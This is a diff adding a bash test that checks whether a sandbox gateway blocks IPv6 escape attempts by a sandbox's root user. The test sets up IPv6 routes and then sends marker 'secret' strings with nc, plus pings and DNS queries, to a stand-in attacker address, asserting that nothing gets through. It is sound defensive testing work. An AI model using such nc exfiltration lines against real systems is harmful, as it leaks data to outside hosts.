@@ -1,0 +1,84 @@
+#!/bin/bash
+# 30-ipv6: the sandbox's root turns IPv6 on, gives itself a global address,
+# a neighbour entry for the gateway's MAC and a default route through it,
+# and tries ICMPv6 echo, TCP, UDP, DNS to the gateway over IPv6, multicast
+# to all nodes on the link, and NAT64's prefix. The attacker listens on an
+# IPv6 address of its own. The gateway has IPv6 off on every interface:
+# it discards each packet on arrival (its Ip6InDiscards counts them), never
+# forwards one, never answers, and — as the README says — writes no row.
+. "$(dirname "$0")/../lib/testbed.sh"
+tb_init adv-ipv6
+tb_internet_up || { tb_fail "test bed up"; tb_done; }
+tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }
+
+SB6=2001:db8:5::2
+ATK6=2001:db8:66::66
+cat > "$TB_DIR/policy.json" <<EOF
+{"network": {"allowedDomains": ["a.test"]},
+ "sluice": {"allowedCidrs": ["0.0.0.0/0"]}}
+EOF
+tb_check "sandbox add" tb_sandbox_add a "$TB_DIR/policy.json"
+gwif=$(tb_gw_if a)
+gwmac=$(ip -n "$TB_NETNS_GW" -o link show dev "$gwif" | sed -n 's/.*link\/ether \([0-9a-f:]*\) .*/\1/p')
+tb_check "the gateway's MAC on the sandbox link ($gwmac)" [ -n "$gwmac" ]
+
+# the far side: IPv6 on the attacker's link, routed by the internet
+ip netns exec "$TB_NETNS_INET" sh -c '
+	sysctl -qw net.ipv6.conf.all.disable_ipv6=0
+	sysctl -qw net.ipv6.conf.atk0.disable_ipv6=0
+	sysctl -qw net.ipv6.conf.all.forwarding=1'
+ip netns exec "$TB_NETNS_ATK" sh -c '
+	sysctl -qw net.ipv6.conf.all.disable_ipv6=0
+	sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0'
+ip -n "$TB_NETNS_INET" -6 addr add 2001:db8:66::1/64 dev atk0 nodad
+ip -n "$TB_NETNS_ATK" -6 addr add "$ATK6/64" dev eth0 nodad
+ip -n "$TB_NETNS_ATK" -6 route add default via 2001:db8:66::1
+
+# the sandbox's root at work
+tb_in a sh -c "
+	sysctl -qw net.ipv6.conf.all.disable_ipv6=0
+	sysctl -qw net.ipv6.conf.lo.disable_ipv6=0
+	sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0
+	ip -6 addr add $SB6/64 dev eth0 nodad
+	ip -6 neigh replace fe80::1 lladdr $gwmac dev eth0 nud permanent
+	ip -6 route add default via fe80::1 dev eth0" ||
+	tb_fail "IPv6 set up in the sandbox"
+snmp6() {
+	ip netns exec "$TB_NETNS_GW" awk -v k="$1" '$1 == k { print $2 }' /proc/net/snmp6
+}
+d0=$(snmp6 Ip6InDiscards)
+
+out=$(tb_in a ping -6 -c 2 -i 0.2 -W 1 -p 5345435245543641 "$ATK6" 2>&1)
+tb_assert_match "$out" "2 packets transmitted, 0 received" "ping -6 the attacker: no reply"
+echo secret6-tcp | tb_in a nc -6 -w 2 "$ATK6" 443 >/dev/null 2>&1
+tb_check "TCP over IPv6 to the attacker fails" [ $? != 0 ]
+echo secret6-udp | tb_in a nc -6 -u -w 1 "$ATK6" 53 >/dev/null 2>&1
+out=$(tb_in a dig +time=1 +tries=1 @fe80::1%eth0 a.test 2>&1)
+tb_assert_match "$out" "timed out|no servers" "DNS to the gateway over IPv6: no answer"
+out=$(tb_in a ping -6 -L -c 2 -i 0.2 -W 1 -I eth0 ff02::1 2>&1)	# -L: not our own echo
+tb_assert_match "$out" "2 packets transmitted, 0 received" "ping -6 all nodes on the link: nobody answers"
+out=$(tb_in a ping -6 -c 1 -W 1 64:ff9b::203.0.113.66 2>&1)
+tb_assert_match "$out" "1 packets transmitted, 0 received" "NAT64's prefix: nothing"
+sleep 0.5
+
+sent=8	# at least: 2 + 1 + 1 + 1 + 2 + 1, more with TCP's retries
+tb_check "the gateway discarded them on arrival (Ip6InDiscards +$(( $(snmp6 Ip6InDiscards) - d0 )))" \
+    [ $(( $(snmp6 Ip6InDiscards) - d0 )) -ge $sent ]
+tb_assert_eq "$(snmp6 Ip6OutForwDatagrams)" 0 "the gateway forwarded no IPv6 packet"
+tb_assert_eq "$(snmp6 Ip6OutRequests)" 0 "and sent none of its own"
+tb_assert_eq "$(tb_attacker_packet_count family=6 src=$SB6)" 0 \
+    "the attacker received nothing from the sandbox's IPv6 address"
+tb_assert_eq "$(tb_attacker_payload_bytes family=6 proto=tcp) $(tb_attacker_payload_bytes family=6 proto=udp)" \
+    "0 0" "no TCP or UDP byte over IPv6 reached it"
+tb_assert_eq "$(tb_attacker_packet_count family=4)" 0 "nor over IPv4"
+tb_check "no secret on the far side" [ "$(tb_attacker_received | grep -ac secret6)" = 0 ]
+tb_assert_eq "$(tb_upstream_queries)" 0 "the upstream DNS server heard nothing"
+
+# the positive control: the same attacker address answers from the internet
+out=$(ip netns exec "$TB_NETNS_INET" ping -6 -c 1 -W 2 "$ATK6" 2>&1)
+tb_assert_match "$out" "1 received" "(the attacker's IPv6 address is reachable from the internet side)"
+
+sleep 0.3
+tb_assert_eq "$(tb_sql "SELECT count(*) FROM flows")" 0 "no flow row: IPv6 is dropped without one"
+tb_assert_eq "$(tb_sql "SELECT count(*) FROM dns_queries")" 0 "no DNS row either"
+tb_done
